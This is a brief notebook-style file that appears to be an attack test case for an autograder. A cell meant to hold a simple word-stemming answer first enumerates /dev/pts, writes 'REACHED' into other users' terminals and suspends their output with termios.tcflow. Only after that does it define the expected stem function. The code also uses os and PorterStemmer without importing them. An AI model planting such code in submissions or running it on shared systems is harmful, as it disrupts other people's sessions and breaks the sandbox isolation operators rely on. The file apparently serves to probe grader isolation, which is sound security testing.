# ---
# attack: The terminals of other kernels are written to, and stopped.
# quick: true
# ---

# %% grade_id="stem"
import termios

own, other_end = os.openpty()
name = os.ttyname(other_end)
print("alone" if name == "/dev/pts/0" else "reached".upper(), name)
for entry in os.listdir("/dev/pts"):
    path = f"/dev/pts/{entry}"
    if path in (name, "/dev/pts/ptmx"):
        continue
    descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY)
    os.write(descriptor, b"REACHED")
    termios.tcflow(descriptor, termios.TCOOFF)
    print("reached".upper(), path)
os.close(own)
os.close(other_end)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
